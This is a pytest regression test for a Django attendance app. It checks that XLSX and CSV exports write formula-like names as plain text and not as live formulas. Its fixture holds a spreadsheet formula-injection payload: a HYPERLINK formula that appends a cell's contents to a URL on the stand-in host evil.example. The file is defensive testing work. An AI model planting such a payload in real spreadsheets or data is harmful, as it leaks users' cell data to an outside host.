"""ATT-6 exports: a name that looks like a formula stays text (issue 8, hole 4)."""

import csv
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from attendance import services
from attendance.tests.conftest import at
from bureau.models import Person, Section

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
SECTION = "+1+1"


@pytest.fixture
def month(org, monday):
    Person.objects.filter(pk=org.b1.pk).update(name=NAME)
    Section.objects.filter(pk=org.section_b.pk).update(name=SECTION)
    with time_machine.travel(at(monday, 7, 59), tick=False):
        services.record_sign_in(by=org.a1.user)
        services.record_sign_in(by=org.b1.user)
    services.sheets_settle(day=monday, now=at(monday, 12, 30))
    return f"?month={monday:%Y-%m}"


def test_att6_report_xlsx_writes_a_formula_like_name_as_text(org, month, client_for):
    """The name and the section are string cells (never formulas), unchanged and
    quote-prefixed; the numeric columns stay numbers."""
    response = client_for(org.a2).get(reverse("attendance:report_xlsx") + month)
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == NAME)
    assert row[1].data_type == "s" and row[1].quotePrefix
    assert row[3].value == SECTION and row[3].data_type == "s"
    assert row[4].data_type == "n" and row[8].data_type == "n"  # sessions, days
    cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"]
    totals = book.worksheets[1]
    group = next(r for r in totals.iter_rows(min_row=2) if r[0].value == SECTION)
    assert group[0].data_type == "s" and group[1].data_type == "n"


def test_att6_report_csv_quotes_a_formula_like_name(org, month, client_for):
    """In the csv the name and section start with a quote; numbers are bare."""
    response = client_for(org.a2).get(reverse("attendance:report_csv") + month)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == org.b1.employee_no)
    assert row[1] == "'" + NAME and row[3] == "'" + SECTION
    assert row[4].isdigit()
    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "@")]
